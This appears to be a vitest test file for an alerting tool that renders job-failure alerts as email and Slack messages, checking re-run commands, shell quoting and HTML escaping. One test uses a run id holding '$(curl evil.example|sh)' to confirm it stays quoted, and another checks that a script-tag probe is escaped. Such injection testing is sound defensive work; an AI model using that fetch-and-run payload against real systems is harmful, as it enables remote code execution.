import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alert.js';
import { escapeHtml } from '../../src/escape.js';
import { renderEmail } from '../../src/render-email.js';
import { renderSlack } from '../../src/slack-message.js';
import { toAlert } from '../../src/to-alert.js';
import { failedEvent } from './fixtures.js';

const publicUrl = 'http://127.0.0.1:8080';

describe('renderEmail', () => {
  it('renders a failure with everything a human needs, escaped', () => {
    const alert = toAlert('job.failed.daily-reports', failedEvent())!;
    const m = renderEmail(alert, { publicUrl });
    expect(m.subject).toBe('🚨 CRITICAL: daily-reports failed — ConnectionError');
    const rerun = 'vigil trigger daily-reports --reason "re-run after 01RUN00000000000000000000A failed"';
    expect(m.text).toContain(rerun);
    expect(m.html).toContain(escapeHtml(rerun));
    expect(m.text).toMatch(/RECOMMENDED ACTIONS\n {2}1\. Network error .*status page/);
    expect(m.html).toMatch(/Recommended actions<\/h3>\s*<ol><li[^>]*>Network error/);
    for (const body of [m.html, m.text]) {
      expect(body).toContain('ECONNREFUSED');
      expect(body).toContain('at run (handler.mjs:10:3)');
      expect(body).toContain('/api/jobs/daily-reports/trigger');
      expect(body).toContain('/api/runs/01RUN00000000000000000000A');
    }
    expect(m.html).not.toContain('<script>');
    expect(m.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(m.html).toContain('<details');
    expect(m.text).toMatch(/Succeeded:\s+1/);
    // in a checkout (the dev stack) the CLI is `npx vigil`: ALERT_CLI says how to call it
    const dev = renderEmail(alert, { publicUrl, cli: 'npx vigil' });
    expect(dev.text).toContain(`npx ${rerun}`);
  });

  it('writes every vigil command in the recommended actions as ALERT_CLI says, like the re-run line', () => {
    const down: Alert = {
      eventId: 'w1',
      subject: 'vigil.health.secrets',
      kind: 'service-down',
      severity: 'CRITICAL',
      resolved: false,
      headline: 'secrets is down: no instance has answered for 2 min',
      scope: 'service:secrets',
      service: 'secrets',
      occurredAt: '2026-03-01T10:00:00.000Z',
      facts: [],
      groupType: 'down',
    };
    const prod = renderEmail(down, { publicUrl });
    expect(prod.text).toContain('`vigil health`');
    const dev = renderEmail(down, { publicUrl, cli: 'npx vigil' });
    expect(dev.text).toContain('`npx vigil health`');
    expect(dev.text).not.toMatch(/`vigil /);
    expect(
      renderSlack(down, { publicUrl, cli: 'npx vigil' }).text +
        JSON.stringify(renderSlack(down, { publicUrl, cli: 'npx vigil' }).blocks),
    ).not.toMatch(/`vigil /);
  });

  it('names only the failed targets in the re-run of a partial run', () => {
    const ev = failedEvent({
      status: 'partial',
      failures: [
        { target: 'acme', error: { type: 'HttpError', message: 'HTTP 503' } },
        { target: "o'brien & co", error: 'timeout' },
      ],
    });
    const m = renderEmail(toAlert('job.partial.daily-reports', ev)!, { publicUrl });
    expect(m.subject.startsWith('⚠️ WARNING: daily-reports partially failed (3/4 targets)')).toBe(true);
    expect(m.text).toContain(`--target acme --target 'o'\\''brien & co'`);
    expect(m.text).toContain('"targets":["acme"');
  });

  it('a run id with shell syntax stays text in the pasted re-run command', () => {
    const evil = failedEvent({ runId: '$(curl evil.example|sh)`id`' });
    const m = renderEmail(toAlert('job.failed.daily-reports', evil)!, { publicUrl });
    expect(m.text).toContain(`--reason 're-run after $(curl evil.example|sh)\`id\` failed'`);
    expect(m.text).not.toContain('--reason "re-run after $(');
  });

  it('marks follow-ups and resolved emails', () => {
    const alert = toAlert('job.failed.daily-reports', failedEvent())!;
    const f = renderEmail(alert, { publicUrl, followUp: { count: 49, sinceMs: Date.parse('2026-11-24T02:00:05Z') } });
    expect(f.subject).toContain('(+49 more)');
    expect(f.text).toContain('49 more alert(s)');
    const r = renderEmail(toAlert('job.recovered.daily-reports', failedEvent({ error: undefined }))!, { publicUrl });
    expect(r.subject).toBe('✅ RESOLVED: daily-reports recovered');
    expect(r.text).not.toContain('vigil trigger');
  });

  it('renders the test email as a realistic sample', () => {
    const alert = toAlert('notify.send', {
      id: 'x',
      data: { severity: 'CRITICAL', title: 'Vigil test email', body: 'hello' },
    })!;
    const m = renderEmail(alert, { publicUrl });
    expect(m.subject).toBe('🚨 CRITICAL: Vigil test email');
    expect(m.text).toContain('TEST');
    expect(m.text).toContain('ConnectionError');
    expect(m.text).toContain('vigil trigger example-daily-report');
    // no link to the sample run: it does not exist
    expect(m.text).not.toContain('/api/runs/');
    expect(
      renderSlack(alert, { publicUrl }).text + JSON.stringify(renderSlack(alert, { publicUrl }).blocks),
    ).not.toContain('/api/runs/');
  });

  it('builds Slack JSON without raw markup from error text', () => {
    const s = renderSlack(toAlert('job.failed.daily-reports', failedEvent())!, { publicUrl });
    expect(s.text).toContain('CRITICAL');
    expect(JSON.stringify(s.blocks)).not.toContain('<script>');
  });
});
